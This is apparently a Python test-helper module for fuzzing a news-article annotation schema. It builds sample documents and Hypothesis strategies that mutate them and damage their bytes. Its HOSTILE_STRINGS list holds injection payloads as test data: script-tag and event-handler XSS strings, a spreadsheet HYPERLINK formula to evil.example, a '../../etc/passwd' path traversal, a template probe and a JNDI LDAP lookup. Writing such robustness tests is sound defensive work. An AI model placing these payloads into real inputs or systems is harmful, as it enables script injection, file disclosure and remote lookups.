"""Shared helpers for the adversarial suite: paths, a base document, hostile strings and
hypothesis strategies that mutate valid documents into hostile ones."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from newsschema.rules import ALL_CODES
from newsschema.strategies import document_dicts

ROOT = Path(__file__).resolve().parents[2]
SEEDS = ROOT / "seeds"
SEED = next(iter(sorted(SEEDS.glob("*.json"))), None)
SHARED = (ROOT / ".." / "shared").resolve()
JSON_TEST_SUITE = SHARED / "corpora" / "JSONTestSuite" / "test_parsing"

HOSTILE_STRINGS = (
    "</script><script>alert(1)</script>",
    "<!--",
    "-->",
    "</SCRIPT >",
    '" onmouseover="alert(1)',
    "' onload='x",
    "&amp;&lt;&#x3c;&",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
    "\nLF",
    "'quoted",
    "\u2028\u2029",
    "\x00\x01\x1b\x7f\x85",
    "\ufeff",
    "\ufffe\uffff",
    "e\u0301",
    "👩\u200d👩\u200d👧",
    "🇨🇭",
    "\r\n",
    "../../etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://x}",
    "x" * 5000,
)
"""Strings that have broken some tool somewhere: markup, formulas, controls, clusters, size."""


def minimal_dict() -> dict[str, Any]:
    """A small valid document; spans count code points in the body."""
    body = "“We met,” Lavrov said in Geneva, RIA Novosti reported."
    return {
        "schema_version": "1.0",
        "article": {
            "id": "a1",
            "headline": "Lavrov speaks",
            "body": body,
            "language": "en",
            "url": "https://news.example/a1",
            "date_published": "2022-01-13T10:00:00Z",
            "publisher": "ria",
        },
        "entities": [
            {
                "id": "lavrov",
                "kind": "person",
                "name": "Sergey Lavrov",
                "aliases": ["Lavrov"],
                "same_as": ["https://www.wikidata.org/wiki/Q161069"],
                "mentions": [{"start": 10, "end": 16}],
            },
            {
                "id": "geneva",
                "kind": "place",
                "name": "Geneva",
                "mentions": [{"start": 25, "end": 31}],
            },
            {
                "id": "ria",
                "kind": "outlet",
                "name": "RIA Novosti",
                "mentions": [{"start": 33, "end": 44}],
            },
        ],
        "events": [
            {
                "id": "talks",
                "kind": "talks",
                "name": "Geneva talks",
                "date": {"start": "2022-01-10"},
                "location": "geneva",
                "participants": [{"entity": "lavrov", "role": "participant"}],
            }
        ],
        "quotes": [
            {
                "id": "q1",
                "kind": "direct",
                "text": "We met",
                "span": {"start": 1, "end": 7},
                "speaker": "lavrov",
                "cue": {"start": 17, "end": 21},
                "via": ["ria"],
                "event": "talks",
            }
        ],
    }


def dumps(value: Any) -> bytes:
    """Indented JSON (one member per line, so findings have distinct lines)."""
    return json.dumps(value, ensure_ascii=False, indent=2).encode("utf-8", "surrogatepass")


def known_code(code: str) -> bool:
    """True for a documented code (loader, model, importer and rule codes)."""
    return code in ALL_CODES


# --- mutations ---------------------------------------------------------------------------------


def _paths(node: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every path to a value inside ``node`` (the root excluded)."""
    if isinstance(node, dict):
        for key, value in node.items():
            yield (*prefix, key)
            yield from _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            yield (*prefix, i)
            yield from _paths(value, (*prefix, i))


def _parent(doc: Any, path: tuple[Any, ...]) -> Any:
    node = doc
    for key in path[:-1]:
        node = node[key]
    return node


_JUNK = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(HOSTILE_STRINGS),
    st.text(max_size=20),
    st.just([]),
    st.just({}),
    st.just("12"),
    st.just("yes"),
    st.just("20240102"),
    st.just("2022-02-30T10:00:00Z"),
    st.just("2022-01-13T10:00:00"),
)
"""Values a mutation puts where something else belongs."""


@st.composite
def mutated_dicts(draw: st.DrawFn) -> dict[str, Any]:
    """A valid generated document with one to four hostile edits.

    Edits: drop a member or item, duplicate a list item, retype a value, shift an offset,
    swap two ids, inject a hostile string into a text value.
    """
    doc = copy.deepcopy(draw(document_dicts(max_entities=3)))
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        paths = list(_paths(doc))
        if not paths:
            break
        operation = draw(
            st.sampled_from(["drop", "duplicate", "retype", "shift", "swap", "inject"])
        )
        path = draw(st.sampled_from(paths))
        parent = _parent(doc, path)
        key = path[-1]
        if operation == "drop":
            del parent[key]
        elif operation == "duplicate":
            lists = [p for p in paths if isinstance(_parent(doc, p)[p[-1]], list)]
            if lists:
                target = draw(st.sampled_from(lists))
                items = _parent(doc, target)[target[-1]]
                if items:
                    items.append(copy.deepcopy(draw(st.sampled_from(items))))
        elif operation == "retype":
            parent[key] = draw(_JUNK)
        elif operation == "shift":
            offsets = [
                p
                for p in paths
                if p[-1] in ("start", "end") and isinstance(_parent(doc, p)[p[-1]], int)
            ]
            if offsets:
                target = draw(st.sampled_from(offsets))
                shift = draw(st.sampled_from([-1, 1, 2, -7, 10**6, 2**53, -(2**53)]))
                _parent(doc, target)[target[-1]] += shift
        elif operation == "swap":
            ids = [p for p in paths if p[-1] in ("id", "speaker", "entity", "location", "event")]
            if len(ids) >= 2:
                a, b = draw(st.lists(st.sampled_from(ids), min_size=2, max_size=2, unique=True))
                pa, pb = _parent(doc, a), _parent(doc, b)
                pa[a[-1]], pb[b[-1]] = pb[b[-1]], pa[a[-1]]
        else:
            strings = [p for p in paths if isinstance(_parent(doc, p)[p[-1]], str)]
            if strings:
                target = draw(st.sampled_from(strings))
                hostile = draw(st.sampled_from(HOSTILE_STRINGS))
                node = _parent(doc, target)
                node[target[-1]] = draw(
                    st.sampled_from(
                        [hostile, node[target[-1]] + hostile, hostile + node[target[-1]]]
                    )
                )
    return doc


@st.composite
def mutated_bytes(draw: st.DrawFn) -> bytes:
    """A mutated document as JSON bytes, sometimes also damaged at the byte level."""
    data = dumps(draw(mutated_dicts()))
    damage = draw(st.sampled_from(["none", "none", "truncate", "duplicate-key", "bytes", "bom"]))
    if damage == "truncate" and len(data) > 2:
        data = data[: draw(st.integers(min_value=0, max_value=len(data) - 1))]
    elif damage == "duplicate-key":
        data = data.replace(b'"schema_version"', b'"schema_version": "1.0", "schema_version"', 1)
    elif damage == "bytes" and data:
        at = draw(st.integers(min_value=0, max_value=len(data) - 1))
        junk = draw(st.sampled_from([b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\x00", b"\x01"]))
        data = data[:at] + junk + data[at:]
    elif damage == "bom":
        data = b"\xef\xbb\xbf" + data
    return data
